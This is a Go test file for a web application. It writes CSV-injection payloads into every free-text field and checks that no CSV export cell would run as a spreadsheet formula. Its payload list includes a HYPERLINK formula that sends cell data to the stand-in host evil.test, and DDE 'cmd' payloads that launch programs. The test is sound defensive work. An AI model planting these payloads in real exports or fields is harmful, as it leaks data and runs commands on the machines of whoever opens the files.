package web_test

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"regexp"
	"strings"
	"testing"

	"github.com/coprod/coprod/internal/store"
	"github.com/coprod/coprod/internal/store/storetest"
	"github.com/coprod/coprod/internal/web"
)

// formulaPayloads are what someone could type so that a spreadsheet runs
// something when a colleague opens an export (CSV injection).
var formulaPayloads = []string{
	`=HYPERLINK("http://evil.test/?leak="&A1,"Click for details")`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`+1+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	"\t=1+1",
}

// plantedColumns are the free-text fields the demo roles type into (names,
// stories, what was said, comments, titles) that reach a CSV export.
var plantedColumns = []string{
	"users.display_name", "organisations.name", "round_members.pseudonym", "round_members.real_name",
	"stories.title", "stories.body", "factors.description", "services.name", "services.provider",
	"service_feedback.comment", "vision_statements.body", "themes.name", "involvement_payments.method",
	"ledger_items.said", "ledger_actions.what", "ledger_verdicts.comment", "studies.title",
	"study_transcripts.title", "study_transcripts.file_name",
}

// exportRoles are the demo roles whose pages link the CSV exports; each
// export is fetched as the role whose pages offered it.
var exportRoles = []string{"", "admin", "commissioner", "facilitator", "provider", "researcher", "evaluator"}

var hrefPattern = regexp.MustCompile(`href="(/[^"#]*)"`)

var plainNumber = regexp.MustCompile(`^[+-]?[0-9]+(\.[0-9]+)?$`)

// TestEveryCSVExportIsFormulaSafe plants formula payloads in every
// free-text field, finds every CSV export the router has by following
// links as the roles that may download them, and checks that no cell of
// any export would run as a formula.
func TestEveryCSVExportIsFormulaSafe(t *testing.T) {
	t.Parallel()
	storetest.Engines(t, func(t *testing.T, engine store.Engine) {
		s := newTestServer(t, engine)
		for i, col := range plantedColumns {
			table, column, _ := strings.Cut(col, ".")
			payload := strings.ReplaceAll(formulaPayloads[i%len(formulaPayloads)], "'", "''")
			// The id keeps values unique where the schema asks for it.
			q := fmt.Sprintf("UPDATE %s SET %s = '%s' || ' ' || id", table, column, payload)
			if err := storetest.Exec(s.DB, q); err != nil {
				t.Fatalf("planting in %s: %v", col, err)
			}
		}

		found := map[string]map[string]string{} // pattern → URL → role
		for _, role := range exportRoles {
			c := s.client(t)
			if role != "" {
				c.loginAs(role)
			}
			for _, u := range crawlLinks(c, 300) {
				if p := routePattern(u); strings.Contains(p, ".csv") {
					if found[p] == nil {
						found[p] = map[string]string{}
					}
					if _, ok := found[p][u]; !ok {
						found[p][u] = role
					}
				}
			}
		}

		escaped := 0
		for _, pattern := range web.RoutePatterns() {
			if !strings.Contains(pattern, ".csv") {
				continue
			}
			urls := found[pattern]
			if len(urls) == 0 {
				t.Errorf("%s: no page links this export for any demo role", pattern)
				continue
			}
			for u, role := range urls {
				c := s.client(t)
				if role != "" {
					c.loginAs(role)
				}
				r := c.get(u)
				if r.StatusCode != http.StatusOK {
					t.Errorf("%s as %q: %d", u, role, r.StatusCode)
					continue
				}
				rd := csv.NewReader(strings.NewReader(r.Body))
				rd.FieldsPerRecord = -1
				rows, err := rd.ReadAll()
				if err != nil {
					t.Errorf("%s: not CSV: %v", u, err)
					continue
				}
				for n, row := range rows {
					for col, cell := range row {
						if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber.MatchString(cell) {
							t.Errorf("%s row %d column %d: a spreadsheet would run %q", u, n+1, col+1, cell)
						}
						if len(cell) > 1 && cell[0] == '\'' && strings.ContainsRune("=+-@\t", rune(cell[1])) {
							escaped++
						}
					}
				}
			}
		}
		if escaped == 0 {
			t.Error("no planted payload reached any export: the test plants in the wrong places")
		}
		t.Logf("%d CSV routes, %d escaped formula cells", len(found), escaped)
	})
}

// crawlLinks follows same-site links from the home page, breadth first,
// up to limit pages, and returns every link it saw (followed or not).
func crawlLinks(c *client, limit int) []string {
	seen := map[string]bool{"/": true}
	queue, all := []string{"/"}, []string{}
	for len(queue) > 0 && limit > 0 {
		u := queue[0]
		queue = queue[1:]
		r := c.get(u)
		if r.StatusCode != http.StatusOK || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/html") {
			continue
		}
		limit--
		for _, m := range hrefPattern.FindAllStringSubmatch(r.Body, -1) {
			link := strings.ReplaceAll(m[1], "&amp;", "&")
			if seen[link] || strings.HasPrefix(link, "/static/") {
				continue
			}
			seen[link] = true
			all = append(all, link)
			if !strings.Contains(link, ".") { // pages, not downloads
				queue = append(queue, link)
			}
		}
	}
	return all
}
